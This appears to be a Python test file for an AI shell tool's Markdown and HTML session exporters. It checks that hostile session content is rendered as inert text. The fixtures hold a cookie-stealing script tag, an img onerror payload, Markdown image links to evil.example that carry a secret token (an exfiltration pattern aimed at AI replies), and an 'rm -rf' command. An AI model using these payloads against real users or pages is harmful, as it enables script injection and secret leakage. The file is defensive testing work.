"""The export renderers on hostile sessions: what a Markdown viewer and a browser make of them.

The Markdown is parsed by a real CommonMark parser (markdown-it, which `rich` brings) and the HTML
by the standard library's parser: the checks are on what those see, not on substrings alone."""

from __future__ import annotations

from html.parser import HTMLParser

from markdown_it import MarkdownIt
from markdown_it.token import Token

from aish.ui.export.document import (
    Bounded,
    Command,
    CostRow,
    Decision,
    Heading,
    NorrisEnded,
    NorrisStarted,
    NorrisStep,
    Notice,
    Question,
    Reply,
    SessionDocument,
    ToolCall,
    ToolResult,
)
from aish.ui.export.html_page import render_html
from aish.ui.export.markdown import code_block, code_span, render_markdown
from aish.ui.export.reading import clean

SCRIPT = "<script>alert(document.cookie)</script>"
IMAGE = "![x](https://evil.example/leak.png?q=AISH_SECRET_TOKEN_1)"


def _command(output: str, command: str = "cat page.html", status: int = 0) -> Command:
    return Command(command, status, Bounded(output), "/work", 0.1, "you", True, 1.0)


def _document(*entries: object, scrubbed: bool = True) -> SessionDocument:
    return SessionDocument(
        Heading("demo <b>", 1_800_000_000.0, "/work", "cloud"),
        tuple(entries),  # type: ignore[arg-type]
        (CostRow("gpt-4o", "chat", 2, 1200, 80, "$0.0123"),),
        CostRow("total", "", 2, 1200, 80, "$0.0123"),
        scrubbed=scrubbed,
    )


def _hostile() -> SessionDocument:
    return _document(
        Question(f"why does {SCRIPT} show?\n```\nunclosed in a question", 2.0),
        Reply(
            f"It is <img src=x onerror=alert(1)> and {IMAGE}.\n\n```html\n{SCRIPT}\n",
            "cloud",
            tool_calls=(ToolCall("notes__read", '{"path": "<a href=x>"}'),),
        ),
        _command(f"{SCRIPT}\n```\n````\nnot code any more?", "printf '```'"),
        ToolResult("notes__read", Bounded(f"{SCRIPT}"), is_error=False),
        Decision("rm -rf <dir>", "destructive", ("rm: deletes files",), True, "skip", 2),
        NorrisStarted("clean <up>", "cloud", ("step <1>",), 3.0),
        NorrisStep(2),
        NorrisEnded("done", "the goal <is> complete", 3, 0.2, 2243, "$2.24"),
        Notice("note", Bounded(f"[project]\n{SCRIPT}")),
        Notice("meta", Bounded(":export md")),
        Notice("status", Bounded(IMAGE)),
    )


# ---- Markdown ----------------------------------------------------------------------------------


def _tokens(markdown: str) -> list[Token]:
    flat: list[Token] = []
    for token in MarkdownIt("commonmark").parse(markdown):
        flat.append(token)
        flat.extend(token.children or [])
    return flat


def test_markdown_has_no_raw_html_and_no_images_outside_code() -> None:
    tokens = _tokens(render_markdown(_hostile()))
    kinds = {token.type for token in tokens}
    assert "html_block" not in kinds and "html_inline" not in kinds
    assert "image" not in kinds
    # The script is there to read, as text or code, never as markup.
    assert any(SCRIPT in token.content for token in tokens if token.type in ("fence", "text"))


def test_markdown_output_stays_in_its_fence_whatever_backticks_it_holds() -> None:
    markdown = render_markdown(_document(_command("```\n````\nstill output"), Reply("after", "m")))
    fences = [t for t in _tokens(markdown) if t.type == "fence"]
    assert fences[0].content == "$ cat page.html\n```\n````\nstill output\n"
    assert fences[0].info == "console"
    # What follows the command is prose again.
    assert any(t.type == "text" and t.content == "after" for t in _tokens(markdown))


def test_an_unclosed_fence_in_a_reply_is_closed_where_the_reply_ends() -> None:
    markdown = render_markdown(
        _document(Reply("Run this:\n```sh\nls -la\n", "m"), Question("next question", 5.0))
    )
    tokens = _tokens(markdown)
    assert [t.content for t in tokens if t.type == "fence"] == ["ls -la\n"]
    assert any(t.type == "text" and t.content == "next question" for t in tokens)


def test_markdown_keeps_the_replys_own_markdown_and_code_spans() -> None:
    reply = Reply("# Plan\n\n- use `a<b` here\n- then **this**\n\nCMD: ls -la", "m")
    tokens = _tokens(render_markdown(_document(reply)))
    assert any(t.type == "code_inline" and t.content == "a<b" for t in tokens)
    assert any(t.type == "strong_open" for t in tokens)
    assert any(t.type == "code_inline" and t.content == "CMD: ls -la" for t in tokens)
    assert sum(t.type == "list_item_open" for t in tokens) == 2


def test_markdown_says_the_costs_the_halt_and_the_placeholders() -> None:
    markdown = render_markdown(_hostile())
    assert "| gpt-4o | chat | 2 | 1,200 | 80 | $0.0123 |" in markdown
    assert "**HALT** (Norris step 2) [destructive] rm: deletes files → skipped: not run" in markdown
    assert "`AISH_SECRET_<TYPE>_<n>`" in markdown
    assert "No preset of this session scrubbed" in render_markdown(_document(scrubbed=False))


def test_code_spans_and_blocks_hold_any_backticks() -> None:
    for text in ("a`b", "``", "`start", "x ``` y"):
        (token,) = [t for t in _tokens(code_span(text)) if t.type == "code_inline"]
        assert token.content.strip() == text.strip()
        (block,) = [t for t in _tokens(code_block(text)) if t.type == "fence"]
        assert block.content == text + "\n"


# ---- HTML --------------------------------------------------------------------------------------


class _Page(HTMLParser):
    """What a browser would build: tags with their attributes, and the text."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


def _page(document: SessionDocument) -> _Page:
    page = _Page()
    page.feed(render_html(document))
    page.close()
    return page


def test_html_is_self_contained_and_runs_nothing() -> None:
    page = _page(_hostile())
    names = [tag for tag, _ in page.tags]
    assert "script" not in names and "img" not in names and "a" not in names
    assert not {"link", "iframe", "object", "embed", "base", "form"} & set(names)
    for tag, attrs in page.tags:
        assert not {"src", "href", "action", "srcset", "poster"} & set(attrs), tag
        assert not any(name.startswith("on") for name in attrs), tag
        assert "url(" not in (attrs.get("style") or "")
    html = render_html(_hostile())
    assert "url(" not in html and "@import" not in html
    (policy,) = [a["content"] for t, a in page.tags if a.get("http-equiv")]
    assert policy is not None and "default-src 'none'" in policy


def test_html_shows_the_hostile_text_as_text() -> None:
    text = "".join(_page(_hostile()).text)
    assert SCRIPT in text  # escaped in the source, read back as the text it was
    assert "<img src=x onerror=alert(1)>" in text and IMAGE in text
    assert "rm -rf <dir>" in text and "HALT" in text and "demo <b>" in text
    assert "$0.0123" in text and "1,200" in text


def test_html_code_blocks_of_a_reply_are_code() -> None:
    page = _page(_document(Reply("Look:\n```sh\nls -la\n```\nthen more", "m")))
    assert ("pre", {}) in page.tags and "ls -la" in page.text
    assert any("then more" in chunk for chunk in page.text)


# ---- what the log holds, cleaned ---------------------------------------------------------------


def test_terminal_escapes_invisible_characters_and_bad_bytes_are_shown_not_obeyed() -> None:
    raw = "\x1b[31mred\x1b[0m \x1b]0;title\x07ok \u202eevil\u202c\r\nbad byte: \udcff\x00 end"
    cleaned = clean(raw)
    assert cleaned == "red ok <U+202E>evil<U+202C>\nbad byte: \\xff end"
    markdown = render_markdown(_document(_command(cleaned)))
    html = render_html(_document(_command(cleaned)))
    for rendered in (markdown, html):
        assert "\x1b" not in rendered and "\u202e" not in rendered and "\x00" not in rendered
        rendered.encode("utf-8")  # nothing a file cannot hold


def test_an_escaped_backtick_opens_no_code_span_that_would_keep_an_image_live() -> None:
    from aish.ui.export.markdown import prose

    text = prose("see \\`![x](https://evil.example/p.png?d=DATA)` ok")
    assert "![x](" not in text  # the image is made inert, not left inside a "code span"
